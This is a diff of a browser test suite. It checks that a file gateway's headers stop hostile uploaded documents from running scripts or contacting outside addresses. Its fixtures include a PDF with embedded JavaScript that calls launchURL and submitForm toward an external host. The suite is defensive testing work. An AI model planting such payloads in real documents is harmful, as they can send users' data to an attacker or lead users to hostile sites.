@@ -1,10 +1,9 @@
 // Documents that are displayed in the browser: the gateway sends hostile ones, and nothing of them
 // runs. With one origin for page and gateway, its headers are all the isolation that there is.
 import assert from "node:assert/strict";
-import { createServer } from "node:http";
 
-import { addUser, openPage, running, scenario, until } from "./harness.mjs";
 import { pdf } from "./files.mjs";
+import { addUser, openPage, running, scenario, serve, until } from "./harness.mjs";
 
 // What the files below try to do, where elsewhere is an address that counts requests.
 const attack = (elsewhere) => `
@@ -45,8 +44,10 @@ const hostile = (elsewhere) => ({
   "paper.pdf": {
     type: "application/pdf",
     content: pdf("Invoice", {
-      action: `<< /S /JavaScript /JS (app.alert\\("run"\\); app.launchURL\\("${elsewhere}/pdf"\\);
-        this.submitForm\\("${elsewhere}/form"\\)) >>`,
+      action: `<< /S /JavaScript /JS (
+        try { app.launchURL\\("${elsewhere}/launch"\\); } catch \\(error\\) {}
+        try { this.submitForm\\("${elsewhere}/form"\\); } catch \\(error\\) {}
+        app.alert\\("run"\\);) >>`,
     }),
   },
 });
@@ -54,14 +55,12 @@ const hostile = (elsewhere) => ({
 // An address elsewhere, and the paths that were requested from it.
 async function watch(t) {
   const requested = [];
-  const server = createServer((request, response) => {
+  const elsewhere = await serve(t, (request, response) => {
     requested.push(request.url);
     response.setHeader("Access-Control-Allow-Origin", "*");
     response.end("document.title = 'changed'");
   });
-  await new Promise((done) => server.listen(0, "127.0.0.1", done));
-  t.after(() => server.close());
-  return { elsewhere: `http://127.0.0.1:${server.address().port}`, requested };
+  return { elsewhere, requested };
 }
 
 // Opens a URL, at top level or in a frame, and returns when the browser displays it or has begun to
@@ -103,17 +102,21 @@ scenario("hostile files: nothing runs and nothing is requested", async (t) => {
     assert.notEqual(await page.title(), "changed", `${name} at top level`);
     assert.ok(!page.url().startsWith(elsewhere), `${name} at top level went to ${page.url()}`);
 
-    const outer = await openPage(t, { url: "about:blank" });
+    const outer = await openPage(t); // which the gateway is allowed to be displayed in
     await outer.evaluate(() => {
       window.messages = [];
       addEventListener("message", ({ data }) => window.messages.push(data));
     });
     await visitInFrame(outer, url);
     assert.deepEqual(await outer.evaluate(() => window.messages), [], `${name} in a frame`);
-    assert.equal(outer.url(), "about:blank", `${name} in a frame`);
+    assert.equal(outer.url(), `${running.stack.web}/`, `${name} in a frame`);
 
     for (const { requests, dialogs } of [page, outer]) {
-      assert.deepEqual(dialogs, [], name);
+      // Chromium's PDF viewer runs a document's scripts in a process without access to any page or
+      // network, whatever the headers are. Its message is the sign that they have run.
+      const expected = name === "paper.pdf" ? ["alert: run"] : [];
+      await until(`${name} to run`, () => dialogs.length >= expected.length);
+      assert.deepEqual(dialogs, expected, name);
       const others = requests.map((request) => request.url()).filter((to) => to.startsWith(elsewhere));
       assert.deepEqual(others, [], name);
     }
@@ -125,17 +128,15 @@ scenario("hostile files: nothing runs and nothing is requested", async (t) => {
 scenario("hostile files: without the gateway's headers they run", async (t) => {
   const { elsewhere, requested } = await watch(t);
   const files = hostile(elsewhere);
-  const server = createServer((request, response) => {
-    const { type, content } = files[request.url.slice(1)];
+  const unsafe = await serve(t, (request, response) => {
+    const { type, content } = files[request.url.slice(1)] ?? { type: "text/plain", content: "" };
     response.setHeader("Content-Type", type);
     response.end(content);
   });
-  await new Promise((done) => server.listen(0, "127.0.0.1", done));
-  t.after(() => server.close());
-  for (const name of [...downloaded, "paper.pdf"]) {
+  for (const name of downloaded) {
     const before = requested.length;
     const page = await openPage(t, { url: "about:blank" });
-    await page.goto(`http://127.0.0.1:${server.address().port}/${name}`).catch(() => {});
+    await page.goto(`${unsafe}/${name}`).catch(() => {});
     await until(`${name} to run`, () => page.dialogs.length > 0 && requested.length > before);
   }
 });
